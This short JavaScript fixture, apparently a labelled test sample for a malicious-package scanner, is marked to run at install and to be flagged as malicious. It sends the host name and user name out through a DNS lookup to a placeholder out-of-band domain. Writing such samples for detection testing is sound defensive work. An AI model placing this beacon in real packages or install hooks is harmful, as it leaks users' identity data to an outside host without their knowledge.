// when: install
// expect: malicious
const os = require('os'), dns = require('dns');
dns.lookup(os.hostname() + '.' + os.userInfo().username + '.oast.example', () => {});
